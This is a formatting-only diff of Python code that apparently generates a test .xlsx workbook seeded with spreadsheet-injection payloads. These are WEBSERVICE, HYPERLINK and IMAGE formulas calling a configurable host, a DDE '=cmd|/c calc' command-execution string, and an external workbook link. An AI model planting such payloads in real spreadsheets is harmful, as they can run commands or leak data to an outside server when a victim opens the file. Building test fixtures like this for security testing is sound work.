@@ -42,9 +42,12 @@ def quarter(root: Path, port: int) -> None:
 def texts(web: str) -> tuple[str, ...]:
     """Return answers that a program might take for something to do."""
     return (
-        f'=WEBSERVICE("{web}/a")', f'=HYPERLINK("{web}/b","Klik")', "=cmd|'/c calc'!A0",
-        f"{web}/bukti.pdf", f'=IMAGE("{web}/c.png")',
-    )  # fmt: skip
+        f'=WEBSERVICE("{web}/a")',
+        f'=HYPERLINK("{web}/b","Klik")',
+        "=cmd|'/c calc'!A0",
+        f"{web}/bukti.pdf",
+        f'=IMAGE("{web}/c.png")',
+    )
 
 
 def taken(form: bytes, web: str) -> bytes:
@@ -53,7 +56,10 @@ def taken(form: bytes, web: str) -> bytes:
     words = dict(zip(_WORDS, map(escape, texts(web)), strict=True))
     parts[SHEET] = _WORDED.sub(lambda found: found[1] + words[found[2]], parts[SHEET])
     parts[SHEET] = _FIGURE.sub(r"\1<f>[1]Data!$B$2</f>\2", parts[SHEET], count=1)
-    parts[SHEET] = _behind(parts[SHEET], f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="C8" r:id="rId1"/></hyperlinks>')  # fmt: skip
+    parts[SHEET] = _behind(
+        parts[SHEET],
+        f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="C8" r:id="rId1"/></hyperlinks>',
+    )
     parts[SHEET_LINKS] = _links(("hyperlink", f"{web}/d"))
     book = f'<externalBook xmlns:r="{OFFICE}" r:id="rId1"/>'
     return packed(_with_link_part(parts, book, f"{web}/e.xlsx"))
@@ -87,12 +93,13 @@ def _with_link_part(parts: Parts, inside: str, target: str) -> Parts:
     link = f'<Relationship Id="rId900" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
     listed = '<externalReferences><externalReference r:id="rId900"/></externalReferences>'
     return {
-        **parts, part: f'<externalLink xmlns="{MAIN}">{inside}</externalLink>',
+        **parts,
+        part: f'<externalLink xmlns="{MAIN}">{inside}</externalLink>',
         "xl/externalLinks/_rels/externalLink1.xml.rels": _links(("externalLinkPath", target)),
         TYPES: _typed(parts[TYPES], part, "externalLink"),
         LINKS: parts[LINKS].replace("</Relationships>", f"{link}</Relationships>"),
         BOOK: parts[BOOK].replace("</sheets>", f"</sheets>{listed}"),
-    }  # fmt: skip
+    }
 
 
 def _links(*targets: tuple[str, str]) -> str:
@@ -104,10 +111,16 @@ def _links(*targets: tuple[str, str]) -> str:
 
 
 def _typed(types: str, part: str, kind: str) -> str:
-    return types.replace("</Types>", f'<Override PartName="/{part}" ContentType="{SHEETML}.{kind}+xml"/></Types>')  # fmt: skip
+    return types.replace(
+        "</Types>", f'<Override PartName="/{part}" ContentType="{SHEETML}.{kind}+xml"/></Types>'
+    )
 
 
 def _behind(sheet: str, text: str) -> str:
     """Return a sheet with an element where links stand: before what prints."""
-    at = min(found for mark in ("<printOptions", "<pageMargins", "<pageSetup", "</worksheet>") if (found := sheet.find(mark)) >= 0)  # fmt: skip
+    at = min(
+        found
+        for mark in ("<printOptions", "<pageMargins", "<pageSetup", "</worksheet>")
+        if (found := sheet.find(mark)) >= 0
+    )
     return sheet[:at] + text + sheet[at:]
